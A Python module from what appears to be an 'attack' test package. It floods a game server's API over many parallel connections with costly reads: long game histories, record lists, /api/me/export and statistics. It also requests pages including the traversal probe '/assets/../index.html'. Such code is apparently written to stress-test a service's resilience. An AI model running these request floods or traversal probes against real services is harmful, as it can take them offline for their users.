"""Costly reads, again and again: histories, records, lists, exports."""

import asyncio
from collections.abc import Callable

from attack.target import Target
from attack.wire import Wire

Path = Callable[[int], str]


async def _read(target: Target, number: int, path: Path, *, as_guest: bool = False) -> None:
    """Ask as fast as it is answered, over one connection."""
    wire = await (Wire.guest if as_guest else Wire.open)(target, number)
    asked = 0
    while True:
        try:
            await wire.ask("GET", path(asked))
        except (OSError, asyncio.IncompleteReadError):
            wire = await Wire.open(target, number)
        asked += 1
        if asked == 5:
            target.under_way.set()


async def histories(target: Target) -> None:
    """Eight connections of one address read the history of a long game, each time another piece."""

    def path(asked: int) -> str:
        return f"/api/tables/{target.over}/history?from={asked % 7}&limit=1000"

    await asyncio.gather(*(_read(target, 0, path) for _ in range(8)))


async def histories_from_afar(target: Target) -> None:
    """The same from eight addresses."""
    await asyncio.gather(
        *(_read(target, number, lambda _: f"/api/tables/{target.over}/history") for number in range(8))
    )


async def records_and_lists(target: Target) -> None:
    """Eight connections read records, lists, their own games and what is kept about them."""
    paths = (
        f"/api/tables/{target.over}/record",
        f"/api/tables/{target.over}",
        "/api/tables?limit=100",
        "/api/me/games?limit=100",
        "/api/me/export",
        "/api/me/statistics",
        "/api/games",
        "/api/openapi.json",
    )
    await asyncio.gather(*(_read(target, 0, lambda _, path=path: path, as_guest=True) for path in paths))  # type: ignore[misc]


async def pages(target: Target) -> None:
    """Eight connections load the web client's files and its page for any path."""
    paths = ("/", "/t/nowhere", "/index.html", "/assets/../index.html")
    await asyncio.gather(*(_read(target, 0, lambda asked, n=n: paths[(asked + n) % 4]) for n in range(8)))  # type: ignore[misc]
